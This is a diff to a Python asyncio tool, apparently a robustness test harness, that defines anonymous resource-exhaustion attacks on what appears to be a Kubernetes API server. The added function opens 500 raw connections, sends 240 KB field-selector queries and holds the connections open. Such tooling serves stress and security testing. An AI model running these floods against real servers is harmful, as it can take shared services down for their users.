@@ -6,6 +6,7 @@ import asyncio
 import json
 import ssl
 from collections.abc import Awaitable, Callable
+from contextlib import suppress
 from dataclasses import dataclass
 from typing import Any
 
@@ -173,6 +174,20 @@ async def long_names(target: Target, count: int, query: str) -> None:
         await target.ask("", "GET", query)
 
 
+async def kept_open(target: Target, count: int, query: str) -> None:
+    """Long questions of nobody, over connections that stay when they are answered."""
+    held = [await target.raw() for _ in range(count)]
+    for _, writer in held:
+        writer.write(f"GET {query} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
+    for reader, _ in held:
+        with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):  # it was cut off
+            async with asyncio.timeout(5):
+                await reader.readuntil(b"\r\n\r\n")
+    await asyncio.sleep(2)
+    for _, writer in held:
+        writer.transport.abort()
+
+
 async def unfinished(target: Target, count: int) -> None:
     """Bodies that never end, of nobody."""
     held = [await target.raw() for _ in range(count)]
@@ -231,6 +246,7 @@ def all_attacks() -> list[Attack]:
         Attack("endless body", "200 MB", "anonymous", endless_body),
         Attack("900 long names", "240 KB each", "anonymous", lambda target: long_names(target, 900, f"{PODS}/{long}")),
         Attack("600 long selectors", "240 KB each", "anonymous", lambda target: long_names(target, 600, f"{PODS}?fieldSelector=metadata.name%3D{long}")),
+        Attack("500 long selectors over connections that stay", "240 KB each", "anonymous", lambda target: kept_open(target, 500, f"{PODS}?fieldSelector=metadata.name%3D{long}")),
         Attack("60 unfinished bodies", "2.9 MB each", "anonymous", lambda target: unfinished(target, 60)),
     ]  # fmt: skip
 
